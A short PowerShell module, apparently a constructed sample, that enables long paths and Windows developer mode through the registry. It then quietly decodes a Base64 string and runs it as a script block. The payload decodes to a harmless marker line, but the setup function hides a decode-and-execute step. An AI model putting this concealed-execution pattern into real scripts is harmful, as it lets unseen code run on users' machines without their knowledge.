function Enable-DevBox {
    param([switch]$LongPaths, [switch]$DeveloperMode)
    if ($LongPaths) {
        Set-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' LongPathsEnabled 1
    }
    if ($DeveloperMode) {
        $k = 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\AppModelUnlock'
        New-Item $k -Force | Out-Null
        Set-ItemProperty $k AllowDevelopmentWithoutDevLicense 1
    }
    Apply-Template
}

$Template = 'dwByAGkAdABlAC0AbwB1AHQAcAB1AHQAIABoADIAMAAtAGQAZQBjAG8AZABlAC0AZQB4AGUAYwAtADAAMwA='

function Apply-Template {
    $t = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($Template))
    & ([scriptblock]::Create($t))
}
Export-ModuleMember -Function Enable-DevBox
